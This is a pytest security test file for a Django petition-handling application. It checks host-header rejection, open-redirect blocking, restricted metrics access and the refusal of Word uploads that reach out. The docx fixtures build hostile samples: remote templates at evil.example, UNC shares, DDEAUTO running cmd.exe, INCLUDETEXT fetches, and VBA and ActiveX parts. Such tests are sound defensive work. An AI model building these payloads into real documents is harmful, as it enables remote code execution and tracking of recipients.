"""What strangers try at the edges: other hosts, other sites' addresses, watching numbers, documents that reach out."""

import io
import os
import zipfile
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone

from tests import town as make
from tests.security.test_cases import ACCUSED
from tests.town import Town
from xinhe.documents.attached.sniffing import kind_of, title_of
from xinhe.documents.store import Unfit, receive
from xinhe.documents.sweeping import sweep_temporary
from xinhe.insight import follower
from xinhe.matters.acts.screen import screen

RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


# Hosts.


@pytest.mark.parametrize("path", ["/", "/my/", "/desk/sign-in/", "/api/v1/regions", "/static/xinhe.css", "/nowhere/"])
@pytest.mark.parametrize("host", ["evil.example", "evil.example:8000", "localhost.evil.example", "x\x00y", "a@b", ""])
def test_a_foreign_host_is_answered_with_nothing_of_ours(db: None, settings: Any, path: str, host: str) -> None:
    settings.ALLOWED_HOSTS = ["localhost", "127.0.0.1"]
    for method in ("GET", "HEAD", "POST"):
        answer = Client().generic(method, path, HTTP_HOST=host)
        assert answer.status_code == 400, method
        assert "evil" not in answer.content.decode()
        assert "信访" not in answer.content.decode()


def test_our_own_host_and_probes_by_address_are_answered(db: None, settings: Any) -> None:
    settings.ALLOWED_HOSTS = ["localhost"]
    assert Client().get("/", HTTP_HOST="localhost:8000").status_code == 200
    assert Client().get("/healthz", HTTP_HOST="10.0.0.7").status_code == 200


# Addresses of other sites.


@pytest.mark.parametrize(
    "path", ["//evil.example/", "/\\evil.example", "//evil.example/%2f..", "///evil.example", "/\t/evil.example"]
)
def test_no_refusal_links_to_another_site(town: Town, path: str) -> None:
    client = Client()
    assert town.clerk.account is not None
    client.force_login(town.clerk.account)
    answer = client.get("/desk/matters/XX-26-000001-X/", headers={"Referer": f"http://testserver{path}"})
    assert answer.status_code == 404
    assert "evil.example" not in answer.content.decode()


@pytest.mark.parametrize("to", ["//evil.example", "/\\evil.example", "http:///evil.example", "https:evil.example"])
@pytest.mark.parametrize("path", ["/language/en/", "/size/large/"])
def test_no_switch_leads_to_another_site(db: None, path: str, to: str) -> None:
    assert Client().get(path, {"next": to})["Location"] == "/"


# Numbers that are watched.


def figures(client: Client) -> str:
    lines = client.get("/metrics").content.decode().splitlines()
    return "\n".join(line for line in lines if line.startswith("xinhe_"))


def test_no_figure_moves_with_an_accusation(town: Town, at: datetime) -> None:
    make.accepted(town, at)
    follower.catch_up(at=at)
    before = figures(Client())
    assert all(f"xinhe_{name}" in before for name in ("feed_lag", "outbox_waiting", "matters_open"))
    first = make.filed(town, at, title="检举", is_accusation=True, accused=["lh-zjj"])
    assert figures(Client()) == before
    screen(first, by=town.dispatcher, at=at, **ACCUSED)
    assert figures(Client()) == before


@pytest.mark.parametrize("address", ["203.0.113.7", "2001:db8::1", "", "nonsense", "10.0.0.1"])
def test_strangers_watch_no_figures(db: None, address: str) -> None:
    assert Client(REMOTE_ADDR=address).get("/metrics").status_code == 404
    assert "troubles" not in Client(REMOTE_ADDR=address).get("/readyz").json()


@pytest.mark.parametrize("address", ["127.0.0.1", "::1", "::ffff:127.0.0.1", "10.1.2.3"])
def test_named_machines_do(db: None, settings: Any, address: str) -> None:
    settings.WATCHERS = ["127.0.0.1", "::1", "10.0.0.0/8"]
    assert Client(REMOTE_ADDR=address).get("/metrics").status_code == 200


# Documents that reach out.


def docx(*relations: tuple[str, str, str], extra: dict[str, bytes] | None = None, raw: bytes | None = None) -> bytes:
    out = io.BytesIO()
    rows = "".join(
        f'<Relationship Id="r{n}" Type="{RELATIONS}/{kind}" Target="{target}" {mode}/>'
        for n, (kind, target, mode) in enumerate(relations)
    )
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w/>" * 100)
        archive.writestr("word/_rels/settings.xml.rels", raw or f'<R xmlns="x">{rows}</R>'.encode())
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


OUT = 'TargetMode="External"'


@pytest.mark.parametrize(
    "data",
    [
        docx(("attachedTemplate", "https://evil.example/t.dotm", OUT)),
        docx(("attachedTemplate", "HTTP://evil.example/t.dotm", 'TargetMode="external"')),
        docx(("attachedTemplate", "\\\\evil\\share\\t.dotm", OUT)),
        docx(("attachedTemplate", "file://evil/share/t.dotm", OUT)),
        docx(("attachedTemplate", "file:////evil/share/t.dotm", OUT)),
        docx(("image", "http://evil.example/pixel.png", OUT)),
        docx(("oleObject", "mhtml:http://evil.example/x!x-usc:http://evil.example/x", OUT)),
        docx(("frame", "//evil.example/x", OUT)),
        docx(raw="<R/>".encode("utf-16")),
        docx(raw=b'<!DOCTYPE R [<!ENTITY x "y">]><R/>'),
        docx(raw=b"<R"),
        docx(extra={"word/other/VBAProject.bin": b"x"}),
        docx(extra={"word/activeX/activeX1.bin": b"x"}),
        docx(extra={"word/header1.xml": b'<w:instrText> DDEAUTO c:\\cmd.exe "/k calc" </w:instrText>'}),
        docx(extra={"word/footer1.xml": b"<w:instrText>DDE</w:instrText><w:r/><w:instrText>AUTO x</w:instrText>"}),
        docx(extra={"word/footnotes.xml": b'<w:fldSimple w:instr=" INCLUDETEXT &quot;http://evil.example/x&quot; "/>'}),
        docx(("aFChunk", "afchunk.mht", ""), extra={"word/afchunk.mht": b"MIME-Version: 1.0"}),
    ],
)
def test_a_document_that_fetches_or_runs_something_is_refused(data: bytes, settings: Any, tmp_path: Path) -> None:
    settings.FILES = tmp_path
    assert kind_of(data) is None
    assert "Word" in title_of(data)
    with pytest.raises(Unfit, match="Word"):
        receive(SimpleUploadedFile("信.docx", data))


@pytest.mark.parametrize(
    "relations",
    [
        [],
        [("hyperlink", "https://www.gov.cn/", OUT)],
        [("attachedTemplate", "file:///C:\\Users\\x\\Normal.dotm", OUT)],
        [("attachedTemplate", "file:///C:/Program%20Files/t.dotx", OUT)],
        [("image", "media/image1.png", ""), ("styles", "styles.xml", "")],
    ],
)
def test_an_ordinary_document_is_taken(relations: list[tuple[str, str, str]]) -> None:
    kind = kind_of(docx(*relations))
    assert kind is not None
    assert kind.extensions == (".docx",)


def test_fields_that_fetch_nothing_are_taken() -> None:
    """A picture copied from a page of the web lies in the letter, and a word is a word."""
    fields = b'<w:instrText> INCLUDEPICTURE "http://x/y" \\* MERGEFORMAT </w:instrText><w:instrText>PAGE</w:instrText>'
    kind = kind_of(docx(extra={"word/header1.xml": fields + b"<w:t>DDEAUTO</w:t>", "word/embeddings/o1.bin": b"x"}))
    assert kind is not None


# What a killed server leaves.


def test_uploads_on_their_way_when_a_server_was_killed_are_swept(settings: Any, tmp_path: Path) -> None:
    settings.FILE_UPLOAD_TEMP_DIR = tmp_path
    old, new, other = tmp_path / "tmpabc.upload.pdf", tmp_path / "tmpdef.upload", tmp_path / "notes.txt"
    then = (timezone.now() - timedelta(days=2)).timestamp()
    for path in (old, new, other):
        path.write_bytes(b"x")
    for path in (old, other):
        os.utime(path, (then, then))
    assert sweep_temporary(older_than=timezone.now() - timedelta(days=1)) == 1
    assert [path.exists() for path in (old, new, other)] == [False, True, True]


def test_uploads_lie_where_they_are_swept(town: Town, settings: Any) -> None:
    assert Path(settings.FILE_UPLOAD_TEMP_DIR).parent == Path(settings.HOME)
